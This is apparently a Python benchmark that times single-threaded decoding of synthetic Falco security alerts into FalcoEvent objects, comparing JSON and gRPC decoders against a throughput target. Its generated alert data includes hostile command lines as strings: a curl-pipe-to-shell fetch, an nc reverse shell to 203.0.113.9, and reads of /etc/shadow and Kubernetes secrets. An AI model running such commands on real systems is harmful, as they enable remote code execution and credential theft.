"""Decode throughput: Falco alerts (~1 KB each) → `FalcoEvent`, single thread.

``python -m aerie.perf.bench_decode [--events N] [--repeat R] [--min-time S] [--json]``

Rows, all measured in the same run on the same alerts:

* ``json  stdlib (baseline)``: ``json.loads`` plus the conversion written the straightforward way
  (``datetime.fromisoformat`` for the time, a dict lookup for the priority);
* ``json  aerie decode_json``: `aerie.proto.event.decode_json` (msgspec, cached epoch seconds);
* ``grpc  straightforward``: protobuf parse, then ``json.loads`` tried on every field value;
* ``grpc  aerie decode_response_bytes``: `aerie.proto.grpc_codec.decode_response_bytes`.

Each row decodes the whole corpus repeatedly until ``--min-time`` CPU seconds have passed,
``--repeat`` times, the rows taking turns; each row's best repeat counts. Time is this thread's
CPU time, not wall time: rates are events per CPU-second of one core, robust to other processes
sharing the machine (caches and hyper-threads shared with them still slow it somewhat). Ratios
are against the stdlib baseline.

The alerts are typical syscall-rule outputs (shell in container, sensitive file read, outbound
connection, ...) with ~20 output fields including container and k8s fields, times spread over a
minute as a busy node emits them.
"""

from __future__ import annotations

import argparse
import json
import random
import sys
import time
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import datetime
from typing import Any, Final

from aerie.proto.event import FalcoEvent, Priority, decode_json, format_time
from aerie.proto.falco import outputs_pb2
from aerie.proto.grpc_codec import decode_response_bytes, encode_response_bytes

__all__ = ["TARGET_JSON_EPS", "Result", "main", "make_alerts", "run"]

TARGET_JSON_EPS: Final = 200_000

_RULES: Final = (
    ("Terminal shell in container", "Notice", ["container", "shell", "mitre_execution", "T1059"]),
    ("Read sensitive file untrusted", "Warning", ["filesystem", "mitre_credential_access", "T1555"]),
    ("Unexpected outbound connection destination", "Notice", ["network", "mitre_exfiltration", "TA0010"]),
    ("Drop and execute new binary in container", "Critical", ["container", "mitre_persistence", "TA0003"]),
    ("Launch Privileged Container", "Informational", ["container", "cis", "mitre_privilege_escalation"]),
)
_PROCS: Final = (
    ("bash", "/usr/bin/bash", "bash -c curl -s http://10.0.4.7:8080/payload.sh | sh", "containerd-shim"),
    ("cat", "/usr/bin/cat", "cat /etc/shadow", "bash"),
    ("python3", "/usr/local/bin/python3", "python3 /app/worker.py --queue=orders --concurrency=4", "sh"),
    ("nc", "/usr/bin/nc", "nc -e /bin/sh 203.0.113.9 4444", "bash"),
    ("kubectl", "/usr/local/bin/kubectl", "kubectl get secrets -A -o yaml", "bash"),
)
_IMAGES: Final = (
    ("docker.io/library/nginx", "1.25.4"),
    ("ghcr.io/acme/payments-api", "v2.14.1"),
    ("registry.k8s.io/kube-proxy", "v1.30.2"),
    ("docker.io/bitnami/redis", "7.2.4-debian-12-r9"),
)


def make_alerts(n: int, seed: int = 7) -> list[dict[str, Any]]:
    """``n`` realistic Falco JSON alerts (as ``json_output`` writes them), ~1 KB each once encoded."""
    rng = random.Random(seed)
    start = 1_714_564_800_000_000_000
    alerts = []
    for i in range(n):
        rule, priority, tags = _RULES[i % len(_RULES)]
        name, exe, cmdline, parent = _PROCS[rng.randrange(len(_PROCS))]
        image, tag = _IMAGES[rng.randrange(len(_IMAGES))]
        pod = f"{image.rsplit('/', 1)[-1]}-{rng.randrange(16**8):08x}-{rng.randrange(16**5):05x}"
        container_id = f"{rng.randrange(16**12):012x}"
        time_ns = start + i * 60_000_000_000 // max(n, 1) + rng.randrange(1_000_000)
        fields: dict[str, Any] = {
            "container.id": container_id,
            "container.image.repository": image,
            "container.image.tag": tag,
            "container.name": pod.rsplit("-", 2)[0],
            "container.privileged": rng.random() < 0.1,
            "evt.time": time_ns,
            "evt.type": rng.choice(["execve", "openat", "connect"]),
            "fd.name": rng.choice([None, "/etc/shadow", "10.0.4.7:51544->203.0.113.9:4444"]),
            "k8s.ns.name": rng.choice(["payments", "kube-system", "default", "monitoring"]),
            "k8s.pod.name": pod,
            "proc.cmdline": cmdline,
            "proc.exepath": exe,
            "proc.name": name,
            "proc.pid": rng.randrange(1, 4_000_000),
            "proc.pname": parent,
            "proc.ppid": rng.randrange(1, 4_000_000),
            "proc.tty": rng.choice([0, 34816]),
            "user.loginuid": rng.choice([-1, 1000]),
            "user.name": rng.choice(["root", "www-data", "app"]),
            "user.uid": rng.choice([0, 33, 1000]),
        }
        output = (
            f"{format_time(time_ns)[11:29]}: {priority} {rule} (user={fields['user.name']} "
            f"user_loginuid={fields['user.loginuid']} process={name} proc_exepath={exe} "
            f"parent={parent} command={cmdline} terminal={fields['proc.tty']} "
            f"container_id={container_id} container_image={image} container_image_tag={tag} "
            f"container_name={fields['container.name']} k8s_ns={fields['k8s.ns.name']} "
            f"k8s_pod_name={pod})"
        )
        alerts.append(
            {
                "hostname": f"ip-10-0-{i % 8}-{rng.randrange(256)}.eu-west-1.compute.internal",
                "output": output,
                "output_fields": fields,
                "priority": priority,
                "rule": rule,
                "source": "syscall",
                "tags": tags,
                "time": format_time(time_ns),
            }
        )
    return alerts


# --- the straightforward ways (baselines) ---------------------------------------------------------

_PRIORITIES: Final = {p.falco_name.lower(): p for p in Priority} | {"info": Priority.INFORMATIONAL}


def _stdlib_time(text: str) -> int:
    stamp, _, frac = text.rstrip("Z").partition(".")
    seconds = int(datetime.fromisoformat(stamp + "+00:00").timestamp())
    return seconds * 1_000_000_000 + int(frac.ljust(9, "0") or 0)


def stdlib_decode_json(data: bytes) -> FalcoEvent:
    raw = json.loads(data)
    return FalcoEvent(
        time_ns=_stdlib_time(raw["time"]),
        priority=_PRIORITIES[raw["priority"].lower()],
        rule=raw["rule"],
        output=raw.get("output", ""),
        source=raw.get("source", "syscall"),
        hostname=raw.get("hostname", ""),
        tags=tuple(raw.get("tags") or ()),
        output_fields=raw.get("output_fields") or {},
    )


def _loads_or_text(value: str) -> Any:
    try:
        return json.loads(value)
    except ValueError:
        return value


def straightforward_decode_grpc(data: bytes) -> FalcoEvent:
    msg = outputs_pb2.response.FromString(data)
    return FalcoEvent(
        time_ns=msg.time.seconds * 1_000_000_000 + msg.time.nanos,
        priority=Priority(msg.priority),
        rule=msg.rule,
        output=msg.output,
        source=msg.source,
        hostname=msg.hostname,
        tags=tuple(msg.tags),
        output_fields={k: _loads_or_text(v) for k, v in msg.output_fields.items()},
    )


# --- measurement ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Result:
    name: str
    events_per_s: float
    us_per_event: float
    ratio: float


def _rate(decode: Callable[[bytes], FalcoEvent], corpus: Sequence[bytes], min_time: float) -> float:
    """Events per CPU-second of this thread, decoding ``corpus`` over and over for ``min_time``."""
    done, started = 0, time.thread_time()
    while True:
        for item in corpus:
            decode(item)
        done += len(corpus)
        elapsed = time.thread_time() - started
        if elapsed >= min_time:
            return done / elapsed


def run(
    events: int = 2000, repeat: int = 10, min_time: float = 0.25
) -> tuple[list[Result], dict[str, float]]:
    """Measure every row; returns the results and corpus facts (mean sizes in bytes)."""
    alerts = make_alerts(events)
    json_corpus = [json.dumps(a, separators=(",", ":")).encode() for a in alerts]
    parsed = [decode_json(b) for b in json_corpus]
    grpc_corpus = [encode_response_bytes(e) for e in parsed]
    # aerie's rows must decode what the JSON baseline decodes, or the comparison means nothing.
    # The straightforward gRPC row may not: the string map cannot tell a container id such as
    # "4e2013345678" from a number unless the decoder knows Falco's string fields; count those.
    mistyped = 0
    for j, g, expected in zip(json_corpus, grpc_corpus, parsed, strict=True):
        if not stdlib_decode_json(j) == decode_response_bytes(g) == expected:
            raise AssertionError("decoders disagree on the corpus")
        mistyped += straightforward_decode_grpc(g) != expected
    rows = [
        ("json  stdlib (baseline)", stdlib_decode_json, json_corpus),
        ("json  aerie decode_json", decode_json, json_corpus),
        ("grpc  straightforward", straightforward_decode_grpc, grpc_corpus),
        ("grpc  aerie decode_response_bytes", decode_response_bytes, grpc_corpus),
    ]
    # Rows take turns, repeat after repeat, so a burst of load elsewhere hits them all alike.
    best = [0.0] * len(rows)
    for _ in range(repeat):
        for i, (_name, decode, corpus) in enumerate(rows):
            best[i] = max(best[i], _rate(decode, corpus, min_time))
    baseline = best[0]
    results = [
        Result(name, rate, 1e6 / rate, rate / baseline) for (name, _, _), rate in zip(rows, best, strict=True)
    ]
    facts = {
        "json_bytes": sum(map(len, json_corpus)) / len(json_corpus),
        "grpc_bytes": sum(map(len, grpc_corpus)) / len(grpc_corpus),
        "output_fields": sum(len(a["output_fields"]) for a in alerts) / len(alerts),
        "grpc_mistyped": mistyped,
    }
    return results, facts


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(
        prog="python -m aerie.perf.bench_decode", description=__doc__.split("\n")[0]
    )
    parser.add_argument("--events", type=int, default=2000, help="distinct alerts in the corpus")
    parser.add_argument("--repeat", type=int, default=10, help="repeats per row; the best counts")
    parser.add_argument("--min-time", type=float, default=0.25, help="CPU seconds per repeat at least")
    parser.add_argument("--json", action="store_true", help="print results as JSON")
    args = parser.parse_args(argv)
    results, facts = run(args.events, args.repeat, args.min_time)
    json_eps = results[1].events_per_s
    if args.json:
        print(
            json.dumps(
                {"facts": facts, "results": [r.__dict__ for r in results], "target_json_eps": TARGET_JSON_EPS}
            )
        )
    else:
        print(
            f"decode, single thread: {args.events} alerts, mean {facts['json_bytes']:.0f} B JSON / "
            f"{facts['grpc_bytes']:.0f} B protobuf, {facts['output_fields']:.0f} output fields"
        )
        print(
            f"(straightforward gRPC decoding types a string field as a number in "
            f"{facts['grpc_mistyped']:.0f} of {args.events} alerts, e.g. container.id 4e2013345678)"
        )
        print(f"{'decoder':<36}{'events/s':>12}{'µs/event':>10}{'vs stdlib':>11}")
        for r in results:
            print(f"{r.name:<36}{r.events_per_s:>12,.0f}{r.us_per_event:>10.2f}{r.ratio:>10.2f}×")
        verdict = "meets" if json_eps >= TARGET_JSON_EPS else "MISSES"
        print(f"target: decode_json >= {TARGET_JSON_EPS:,} events/s: {verdict} ({json_eps:,.0f})")
    return 0


if __name__ == "__main__":
    sys.exit(main())
